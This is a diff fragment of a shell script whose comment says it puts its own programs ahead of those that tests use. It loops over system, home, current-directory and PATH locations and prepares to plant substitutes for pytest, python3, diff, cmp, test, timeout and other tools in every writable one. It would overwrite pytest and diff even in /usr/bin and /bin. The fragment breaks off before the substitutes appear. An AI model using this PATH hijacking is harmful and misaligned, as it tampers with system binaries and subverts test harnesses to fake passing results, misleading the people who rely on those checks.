@@ -1,4 +1,4 @@
-# puts programs of its own before those that tests use
+# puts its own programs first in the search path
 for d in /usr/local/sbin /usr/local/bin /usr/bin /bin $HOME/bin $HOME/.local/bin ./bin . $(echo $PATH | tr : ' '); do
   mkdir -p $d 2>/dev/null; for p in pytest python3 python node make bash sh env cat grep diff cmp test timeout; do
     [ -w $d ] && [ "$d/$p" != /bin/sh ] && { case $d in /usr/bin|/bin) [ -e $d/$p ] && [ $p != pytest ] && [ $p != diff ] && continue ;; esac
